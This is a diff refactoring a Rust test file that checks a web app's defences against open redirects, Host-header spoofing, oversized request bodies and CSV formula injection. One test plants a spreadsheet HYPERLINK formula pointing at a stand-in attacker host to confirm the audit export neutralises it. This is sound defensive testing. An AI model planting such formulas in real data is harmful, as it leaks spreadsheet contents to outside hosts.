@@ -3,45 +3,12 @@
 //! posters and QR codes, oversized API bodies.
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
-mod common;
-
-use axum::body::Body;
-use axum::http::{HeaderMap, Request, StatusCode, header};
-use common::{Client, PASSWORD, enc, user};
+use axum::http::{HeaderMap, StatusCode, header};
 use doorstep_core::{AreaKind, Role};
-use doorstep_testkit::{TestDb, both_backends};
-use doorstep_web::PublicUrl;
-use http_body_util::BodyExt;
+use doorstep_testkit::{
+    COMMUNITY, FORM, PASSWORD, Response, TestApp, TestDb, both_backends, enc, user,
+};
 use serde_json::json;
-use tower::ServiceExt;
-
-const COMMUNITY: &str = "二七区/京广路街道/祥云社区";
-
-/// One request with optional cookie, Host and form body.
-async fn send(
-    app: &axum::Router,
-    method: &str,
-    uri: &str,
-    cookie: Option<&str>,
-    host: Option<&str>,
-    form: Option<String>,
-) -> (StatusCode, HeaderMap, String) {
-    let mut req = Request::builder().method(method).uri(uri);
-    if let Some(c) = cookie {
-        req = req.header(header::COOKIE, c);
-    }
-    if let Some(h) = host {
-        req = req.header(header::HOST, h);
-    }
-    if form.is_some() {
-        req = req.header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
-    }
-    let req = req.body(form.map_or_else(Body::empty, Body::from)).unwrap();
-    let res = app.clone().oneshot(req).await.unwrap();
-    let (st, h) = (res.status(), res.headers().clone());
-    let bytes = res.into_body().collect().await.unwrap().to_bytes();
-    (st, h, String::from_utf8_lossy(&bytes).into_owned())
-}
 
 fn location(h: &HeaderMap) -> &str {
     h[header::LOCATION].to_str().unwrap()
@@ -62,30 +29,23 @@ const OFF_SITE: [&str; 8] = [
 both_backends!(next_never_leaves_the_site, async |db: &TestDb| {
     doorstep_testkit::demo_community(db.store.as_ref()).await;
     user(db.store.as_ref(), "admin1", Role::CommunityAdmin, COMMUNITY).await;
-    let app = doorstep_web::router(db.store.clone());
+    let app = TestApp::new(db);
     for next in OFF_SITE {
         // The language switch.
-        let (st, h, _) = send(
-            &app,
-            "GET",
-            &format!("/lang/en?next={}", enc(next)),
-            None,
-            None,
-            None,
-        )
-        .await;
+        let Response {
+            status: st,
+            headers: h,
+            ..
+        } = app.get(&format!("/lang/en?next={}", enc(next))).await;
         assert_eq!((st, location(&h)), (StatusCode::SEE_OTHER, "/"), "{next:?}");
 
         // The login page keeps only a safe next, and logging in goes there.
-        let (st, h, body) = send(
-            &app,
-            "GET",
-            &format!("/login?next={}", enc(next)),
-            None,
-            None,
-            None,
-        )
-        .await;
+        let Response {
+            status: st,
+            headers: h,
+            text: body,
+            ..
+        } = app.get(&format!("/login?next={}", enc(next))).await;
         assert_eq!(st, StatusCode::OK, "{next:?}");
         assert!(body.contains("name=\"next\" value=\"/\""), "{next:?}");
         let csrf = h[header::SET_COOKIE]
@@ -96,31 +56,28 @@ both_backends!(next_never_leaves_the_site, async |db: &TestDb| {
             .unwrap()
             .to_string();
         let token = csrf.split_once('=').unwrap().1;
-        let (st, h, _) = send(
-            &app,
-            "POST",
-            "/login",
-            Some(&csrf),
-            None,
-            Some(format!(
-                "username=admin1&password={}&csrf={token}&next={}",
-                enc(PASSWORD),
-                enc(next)
-            )),
-        )
-        .await;
+        let Response {
+            status: st,
+            headers: h,
+            ..
+        } = app
+            .post("/login")
+            .cookie(&csrf)
+            .body(
+                FORM,
+                format!(
+                    "username=admin1&password={}&csrf={token}&next={}",
+                    enc(PASSWORD),
+                    enc(next)
+                ),
+            )
+            .await;
         assert_eq!((st, location(&h)), (StatusCode::SEE_OTHER, "/"), "{next:?}");
     }
     // A path of this site still works.
-    let (_, h, _) = send(
-        &app,
-        "GET",
-        &format!("/lang/en?next={}", enc("/search?q=x")),
-        None,
-        None,
-        None,
-    )
-    .await;
+    let Response { headers: h, .. } = app
+        .get(&format!("/lang/en?next={}", enc("/search?q=x")))
+        .await;
     assert_eq!(location(&h), "/search?q=x");
 });
 
@@ -131,7 +88,8 @@ both_backends!(
         doorstep_testkit::demo_community(store).await;
         user(store, "root", Role::Admin, "二七区").await;
         let planted = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
-        let mut anon = Client::new(db.store.clone());
+        let app = TestApp::new(db);
+        let mut anon = app.anon();
         let (st, _, _) = anon
             .send(
                 "POST",
@@ -143,7 +101,9 @@ both_backends!(
 
         anon.login("root").await;
         let cookie = format!("doorstep_session={}", anon.token.clone().unwrap());
-        let (st, _, text) = send(&anon.app, "GET", "/audit.csv", Some(&cookie), None, None).await;
+        let Response {
+            status: st, text, ..
+        } = app.get("/audit.csv").cookie(&cookie).await;
         assert_eq!(st, StatusCode::OK);
         let mut rdr = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
         let rows: Vec<Vec<String>> = rdr
@@ -169,8 +129,8 @@ both_backends!(posters_ignore_the_host_header, async |db: &TestDb| {
         .await
         .unwrap();
     user(store, "admin1", Role::CommunityAdmin, COMMUNITY).await;
-    let mut admin = Client::new(db.store.clone());
-    admin.login("admin1").await;
+    let app = TestApp::new(db);
+    let admin = app.login_api("admin1").await;
     let (st, link, _) = admin
         .send(
             "POST",
@@ -184,30 +144,33 @@ both_backends!(posters_ignore_the_host_header, async |db: &TestDb| {
         link["token"].as_str().unwrap(),
     );
     let cookie = format!("doorstep_session={}", admin.token.clone().unwrap());
-    let configured = doorstep_web::RouterBuilder::new(db.store.clone())
-        .public_url(PublicUrl::parse("https://doorstep.example.org").unwrap())
-        .build();
+    let configured = TestApp::builder()
+        .public_url("https://doorstep.example.org")
+        .build(db);
     for (app, base) in [
         (&configured, "https://doorstep.example.org"),
         // Without configuration (in-process), the default address, still never the Host.
-        (&admin.app, "http://127.0.0.1:8080"),
+        (&app, "http://127.0.0.1:8080"),
     ] {
         for uri in [format!("/report-links/{id}/poster"), "/report-links".into()] {
-            let (st, _, body) =
-                send(app, "GET", &uri, Some(&cookie), Some("evil.example"), None).await;
+            let Response {
+                status: st,
+                text: body,
+                ..
+            } = app
+                .get(&uri)
+                .cookie(&cookie)
+                .header("host", "evil.example")
+                .await;
             assert_eq!(st, StatusCode::OK, "{uri}");
             assert!(body.contains(&format!("{base}/r/{token}")), "{uri}: {body}");
             assert!(!body.contains("evil.example"), "{uri}");
         }
-        let (_, _, svg) = send(
-            app,
-            "GET",
-            &format!("/report-links/{id}/qr.svg"),
-            Some(&cookie),
-            Some("evil.example"),
-            None,
-        )
-        .await;
+        let Response { text: svg, .. } = app
+            .get(&format!("/report-links/{id}/qr.svg"))
+            .cookie(&cookie)
+            .header("host", "evil.example")
+            .await;
         assert!(svg.contains("<svg"));
     }
     // The QR code is the configured address's, whatever the Host header says.
@@ -220,15 +183,11 @@ both_backends!(posters_ignore_the_host_header, async |db: &TestDb| {
     .min_dimensions(400, 400)
     .quiet_zone(true)
     .build();
-    let (_, _, svg) = send(
-        &configured,
-        "GET",
-        &format!("/report-links/{id}/qr.svg"),
-        Some(&cookie),
-        Some("evil.example"),
-        None,
-    )
-    .await;
+    let Response { text: svg, .. } = configured
+        .get(&format!("/report-links/{id}/qr.svg"))
+        .cookie(&cookie)
+        .header("host", "evil.example")
+        .await;
     assert_eq!(svg, want);
 });
 
@@ -237,24 +196,16 @@ both_backends!(
     async |db: &TestDb| {
         let store = db.store.as_ref();
         doorstep_testkit::demo_community(store).await;
-        let app = doorstep_web::router(db.store.clone());
+        let app = TestApp::new(db);
         // Just over the 2 MiB limit, to the public endpoint and to a logged-in one.
         let big = json!({"idempotency_key": "k", "answers": {"notes": "x".repeat(2 << 20)}});
         for (uri, ct) in [
             ("/api/v1/public/reports/nope", "application/json"),
             ("/api/v1/auth/login", "application/json"),
         ] {
-            let req = Request::builder()
-                .method("POST")
-                .uri(uri)
-                .header(header::CONTENT_TYPE, ct)
-                .header(header::ACCEPT_LANGUAGE, "en")
-                .body(Body::from(big.to_string()))
-                .unwrap();
-            let res = app.clone().oneshot(req).await.unwrap();
-            assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE, "{uri}");
-            let bytes = res.into_body().collect().await.unwrap().to_bytes();
-            let v: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
+            let res = app.post(uri).lang("en").body(ct, big.to_string()).await;
+            assert_eq!(res.status, StatusCode::PAYLOAD_TOO_LARGE, "{uri}");
+            let v: serde_json::Value = serde_json::from_slice(&res.bytes).unwrap();
             assert_eq!(v["error"], "payload_too_large", "{uri}");
             assert!(v["message"].as_str().unwrap().contains("2 MiB"), "{v}");
         }
